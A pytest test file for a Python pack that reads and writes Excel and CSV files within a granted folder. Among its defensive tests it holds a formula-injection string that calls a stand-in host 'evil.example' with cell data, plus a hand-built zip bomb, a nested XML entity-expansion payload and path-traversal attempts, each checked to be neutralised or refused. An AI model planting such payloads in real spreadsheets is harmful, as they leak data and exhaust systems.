"""Excel and CSV files through the doors of a granted folder."""

from __future__ import annotations

import datetime
import io
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.chart import BarChart
from smolterm.pack import Denied, ToolError
from smolterm.packs.find import read_pack
from smolterm.packs.testing import bound

import smolterm_tables as tables
from smolterm_tables.columns import letters

ROWS: list[dict[str, object]] = [
    {"item": "nut", "n": 3, "price": 1.5, "day": datetime.datetime(2026, 1, 31), "ok": True},
    {"item": "Müller & <Co>", "n": None, "price": -2, "day": None, "ok": False},
]


@pytest.fixture
def folder(tmp_path: Path) -> Iterator[Path]:
    granted = tmp_path / "granted"
    granted.mkdir()
    with bound(folder=granted, write=["**/*.xlsx", "**/*.csv", "**/*.tsv"]):
        yield granted


# Excel


def test_what_is_written_is_read(folder: Path) -> None:
    answer = tables.write_excel("out/a.xlsx", {"First": ROWS, "Second": [{"x": 1}]})
    size = (folder / "out" / "a.xlsx").stat().st_size
    assert answer == {"path": "out/a.xlsx", "sheets": 2, "rows": 3, "size": size}
    assert tables.read_excel("out/a.xlsx") == ROWS
    assert tables.read_excel("out/a.xlsx", sheet="Second") == [{"x": 1}]
    assert tables.list_sheets("out/a.xlsx") == [
        {
            "sheet": "First",
            "rows": 3,
            "columns": 5,
            "first_row": ["item", "n", "price", "day", "ok"],
        },
        {"sheet": "Second", "rows": 2, "columns": 1, "first_row": ["x"]},
    ]


def test_every_kind_of_value_is_written(folder: Path) -> None:
    zone = datetime.timezone(datetime.timedelta(hours=1))
    row: dict[str, object] = {
        "decimal": Decimal("1.25"), "time": datetime.time(12, 30), "list": [1, 2],
        "zoned": datetime.datetime(2026, 1, 31, tzinfo=zone), "day": datetime.date(2026, 1, 31),
    }  # fmt: skip
    tables.write_excel("a.xlsx", {"S": [row]})
    assert tables.read_excel("a.xlsx") == [{
        "decimal": 1.25, "time": datetime.time(12, 30), "list": "[1, 2]",
        "zoned": "2026-01-31T00:00:00+01:00", "day": datetime.datetime(2026, 1, 31),
    }]  # fmt: skip


def test_text_never_becomes_a_formula_unasked(folder: Path) -> None:
    evil = '=HYPERLINK("http://evil.example?"&A1)'
    tables.write_excel("a.xlsx", {"S": [{"=1+1": evil}]})
    sheet = load_workbook(folder / "a.xlsx")["S"]
    assert [sheet["A1"].data_type, sheet["A2"].data_type] == ["s", "s"]
    assert tables.read_excel("a.xlsx") == [{"=1+1": evil}]
    tables.set_excel_cells("a.xlsx", {"A2": "=1+1"})
    assert load_workbook(folder / "a.xlsx")["S"]["A2"].data_type == "s"
    tables.set_excel_cells("a.xlsx", {"A2": "=1+1"}, formulas=True)
    assert load_workbook(folder / "a.xlsx")["S"]["A2"].data_type == "f"


def test_a_part_of_a_sheet_is_read(folder: Path) -> None:
    tables.write_excel("a.xlsx", {"S": [{"a": n, "b": n * n, "c": "x"} for n in range(9)]})
    assert tables.read_excel("a.xlsx", cells="A1:B3") == [{"a": 0, "b": 0}, {"a": 1, "b": 1}]
    assert tables.read_excel("a.xlsx", cells="$b$4:$b$5", header=False) == [{"A": 4}, {"A": 9}]
    assert tables.read_excel("a.xlsx", header=False, limit=1) == [{"A": "a", "B": "b", "C": "c"}]
    assert len(tables.read_excel("a.xlsx", limit=3)) == 3
    for wrong in ("A", "A1:B", "A0:B2", "S!A1"):
        with pytest.raises(ToolError, match="no part"):
            tables.read_excel("a.xlsx", cells=wrong)


def test_a_sheet_made_by_hand_is_read(folder: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for line in ([], ["name", None, "name"], ["a", 1, 2, "more"], [], [None, None, 3]):
        sheet.append(line)
    book.save(folder / "a.xlsx")
    assert tables.read_excel("a.xlsx") == [
        {"name": "a", "B": 1, "name_2": 2, "D": "more"},
        {"name": None, "B": None, "name_2": 3, "D": None},
    ]


def test_cells_are_set_and_all_else_is_kept(folder: Path) -> None:
    tables.write_excel("a.xlsx", {"S": ROWS, "T": [{"x": 1}]})
    answer = tables.set_excel_cells("a.xlsx", {"B2": 7, "A3": None, "F2": "new"}, sheet="S")
    assert answer["changed"] == 3 and answer["sheet"] == "S"
    first, second = tables.read_excel("a.xlsx")
    assert (first["n"], first["F"], second["item"]) == (7, "new", None)
    assert first["price"] == 1.5 and tables.read_excel("a.xlsx", sheet="T") == [{"x": 1}]
    with pytest.raises(ToolError, match="no place"):
        tables.set_excel_cells("a.xlsx", {"1B": 1})


def test_what_would_lose_a_chart_is_not_done(folder: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["a"])
    sheet.add_chart(BarChart(), "C1")
    book.save(folder / "a.xlsx")
    before = (folder / "a.xlsx").read_bytes()
    with pytest.raises(ToolError, match="would be lost"):
        tables.set_excel_cells("a.xlsx", {"A1": 1})
    assert (folder / "a.xlsx").read_bytes() == before


def test_sheets_have_names_that_excel_takes(folder: Path) -> None:
    for name in ("", "a/b", "x" * 32, "a\nb"):
        with pytest.raises(ToolError, match="no name"):
            tables.write_excel("a.xlsx", {name: ROWS})
    with pytest.raises(ToolError, match="no sheet"):
        tables.write_excel("a.xlsx", {})
    with pytest.raises(ToolError, match="characters"):
        tables.write_excel("a.xlsx", {"S": [{"a": "\x01"}]})
    assert not (folder / "a.xlsx").exists()


def test_long_tables_are_bounded(folder: Path) -> None:
    tables.write_excel("a.xlsx", {"S": [{"a": n} for n in range(10_001)]})
    assert len(tables.read_excel("a.xlsx", limit=20_000)) == 10_001
    with pytest.raises(ToolError, match="summarize_table"):
        tables.read_excel("a.xlsx")
    with pytest.raises(ToolError, match="limit"):
        tables.read_excel("a.xlsx", limit=0)
    with pytest.raises(ToolError, match="not written"):
        tables.write_excel("b.xlsx", {"S": [{"a": 1}] * 200_000})


def test_damaged_and_hostile_files_are_refused(folder: Path) -> None:
    tables.write_excel("good.xlsx", {"S": ROWS})
    good = (folder / "good.xlsx").read_bytes()
    (folder / "text.xlsx").write_text("hello")
    (folder / "cut.xlsx").write_bytes(good[: len(good) // 2])
    with zipfile.ZipFile(folder / "bomb.xlsx", "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/workbook.xml", b" " * 160_000_000)
    entity = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    source = zipfile.ZipFile(io.BytesIO(good))
    with zipfile.ZipFile(folder / "entity.xlsx", "w") as packed:
        for name in source.namelist():
            raw = source.read(name)
            if name == "xl/workbook.xml":
                raw = entity.encode() + b"<workbook>&b;</workbook>"
            packed.writestr(name, raw)
    for name in ("text.xlsx", "cut.xlsx", "bomb.xlsx", "entity.xlsx"):
        with pytest.raises(ToolError):
            tables.read_excel(name)
    with pytest.raises(ToolError, match="'Nothing'"):
        tables.read_excel("good.xlsx", sheet="Nothing")


# CSV


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_csv_comes_back_as_it_was_written(folder: Path, separator: str) -> None:
    rows: list[dict[str, object]] = [
        {"a": 1, "b": 'x "y", z; w\t|', "c": 1.5}, {"a": 2, "b": "two\nlines", "c": None},
    ]  # fmt: skip
    answer = tables.write_csv("out/a.csv", rows, separator=separator)
    assert answer["size"] == (folder / "out" / "a.csv").stat().st_size
    assert tables.read_csv("out/a.csv", separator=separator) == rows
    assert tables.read_csv("out/a.csv") == rows


@pytest.mark.parametrize("coding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_csv_is_read_in_the_coding_it_was_written(folder: Path, coding: str) -> None:
    (folder / "a.csv").write_bytes("Größe;n\r\nä;1\r\n".encode(coding))
    assert tables.read_csv("a.csv") == [{"Größe": "ä", "n": 1}]


def test_only_what_a_person_calls_a_number_becomes_one(folder: Path) -> None:
    (folder / "a.csv").write_text(
        "i,f,zip,word,mixed\n1,1.5,007,nan,1\n-2,.5,08,1_000,x\n3,1e3,12,inf,2\n"
    )
    found = tables.read_csv("a.csv")
    assert [list(row.values()) for row in found] == [
        [1, 1.5, "007", "nan", "1"], [-2, 0.5, "08", "1_000", "x"], [3, 1000.0, "12", "inf", "2"],
    ]  # fmt: skip
    assert tables.read_csv("a.csv", header=False, limit=1) == [
        {"A": "i", "B": "f", "C": "zip", "D": "word", "E": "mixed"}
    ]


def test_what_is_no_csv_is_refused(folder: Path) -> None:
    (folder / "image.csv").write_bytes(b"\x89PNG\0\0")
    with pytest.raises(ToolError, match="not text"):
        tables.read_csv("image.csv")
    (folder / "long.csv").write_text("a\n" + "x" * 1_000_001)
    with pytest.raises(ToolError, match="Line 2"):
        tables.read_csv("long.csv")
    (folder / "empty.csv").write_text("")
    assert tables.read_csv("empty.csv") == []
    for wrong in ("", '"', ",,"):
        with pytest.raises(ToolError, match="cannot part"):
            tables.write_csv("a.csv", [{"a": 1}], separator=wrong)
    with pytest.raises(ToolError, match="no rows"):
        tables.write_csv("a.csv", [])
    with pytest.raises(ToolError, match="Bytes"):
        tables.write_csv("a.csv", [{"a": b"x"}])


# Both


def test_columns_are_summed_up(folder: Path) -> None:
    tables.write_excel("a.xlsx", {"S": ROWS})
    tables.write_csv("a.csv", ROWS)
    by_name = {each["column"]: each for each in tables.summarize_table("a.xlsx")}
    assert by_name["price"] == {
        "column": "price", "type": "float", "filled": 2, "empty": 0, "different": 2,
        "smallest": -2, "largest": 1.5, "sum": -0.5, "mean": -0.25,
    }  # fmt: skip
    assert by_name["n"] == {
        "column": "n", "type": "int", "filled": 1, "empty": 1, "different": 1, "smallest": 3,
        "largest": 3, "sum": 3, "mean": 3.0,
    }  # fmt: skip
    assert by_name["day"]["largest"] == datetime.datetime(2026, 1, 31)
    assert by_name["item"]["smallest"] == "Müller & <Co>"
    assert [each["column"] for each in tables.summarize_table("a.csv")] == list(by_name)
    (folder / "none.csv").write_text("a,b\n")
    assert tables.summarize_table("none.csv") == []


def test_only_what_is_granted_is_reached(folder: Path) -> None:
    (folder.parent / "secret.csv").write_text("a\n1\n")
    for path in ("../secret.csv", str(folder.parent / "secret.csv")):
        with pytest.raises(Denied):
            tables.read_csv(path)
    with pytest.raises(Denied, match="may write"):
        tables.write_csv("a.txt", [{"a": 1}])


def test_columns_are_lettered_as_in_excel() -> None:
    assert [letters(at) for at in (0, 25, 26, 51, 701, 702)] == ["A", "Z", "AA", "AZ", "ZZ", "AAA"]


def test_the_manifest_fits_the_tools() -> None:
    found = read_pack("tables", "smolterm_tables")
    assert found.manifest is not None and found.manifest.kind == "wasm"
    effects = {name: entry.effect for name, entry in found.manifest.tools.items()}
    assert effects == {name: getattr(tables, name).effect for name in effects}
